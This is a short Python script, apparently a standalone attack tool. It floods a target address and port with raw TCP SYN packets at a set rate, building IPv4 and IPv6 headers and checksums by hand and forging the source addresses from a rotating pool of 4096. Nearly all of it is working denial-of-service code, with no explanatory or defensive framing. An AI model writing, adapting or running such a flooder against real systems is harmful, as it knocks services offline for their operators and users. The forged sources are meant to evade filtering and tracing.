"""SYNs from forged addresses: syn_flood.py ADDRESS PORT SYNS_PER_S, until it is ended."""
import itertools
import random
import socket
import struct
import sys
import time

IPV6_HDRINCL = 36
FORGED = 4096  # different ones, sent in turns


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def syn(address, port, number):
    v6 = ":" in address
    family = socket.AF_INET6 if v6 else socket.AF_INET
    low = number % 65000 + 1
    source = f"2001:db8:bad::{low:x}" if v6 else f"198.51.{low >> 8}.{low & 255}"
    ends = socket.inet_pton(family, source) + socket.inet_pton(family, address)
    fields = (1024 + number * 7 % 60000, port, random.getrandbits(32), 0, 5 << 12 | 2, 65535)

    def header(its_checksum):
        return struct.pack("!HHIIHHHH", *fields, its_checksum, 0)

    pseudo = ends + struct.pack("!HH", 20, socket.IPPROTO_TCP)
    tcp = header(checksum(pseudo + header(0)))
    if v6:
        return struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + ends + tcp
    start = struct.pack("!BBHHHBB", 0x45, 0, 40, number & 0xFFFF, 0, 64, socket.IPPROTO_TCP)
    return start + struct.pack("!H", checksum(start + b"\0\0" + ends)) + ends + tcp


def main():
    address, port, per_s = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    v6 = ":" in address
    raw = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_RAW, 255)
    if v6:
        raw.setsockopt(socket.IPPROTO_IPV6, IPV6_HDRINCL, 1)
    packets = itertools.cycle([syn(address, port, number) for number in range(FORGED)])
    begin_s, sent = time.monotonic(), 0
    while True:
        due = int((time.monotonic() - begin_s) * per_s)
        for packet in itertools.islice(packets, min(due - sent, 100)):
            try:
                raw.sendto(packet, (address, 0))
            except OSError:  # no buffers for a moment
                pass
            sent += 1
        time.sleep(0.002)


main()
